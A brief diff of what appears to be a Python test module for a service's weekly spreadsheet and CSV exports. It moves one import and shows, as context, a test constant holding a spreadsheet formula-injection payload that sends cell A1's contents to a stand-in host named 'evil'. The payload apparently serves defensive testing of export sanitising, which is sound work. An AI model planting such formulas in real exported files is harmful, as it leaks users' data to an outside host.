@@ -14,7 +14,7 @@ from service.models import User
 from service.spreadsheets import FORMULA_STARTS, append_row
 from service.weekly import Week, build_weekly_report
 from service.weekly_output import csv_text, workbook
-from test_desk_pages import staff_browser
+from support import staff_browser
 from test_weekly import week_of_cases  # noqa: F401  (the synthetic week 2026-W09, a fixture)
 
 HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"x")'
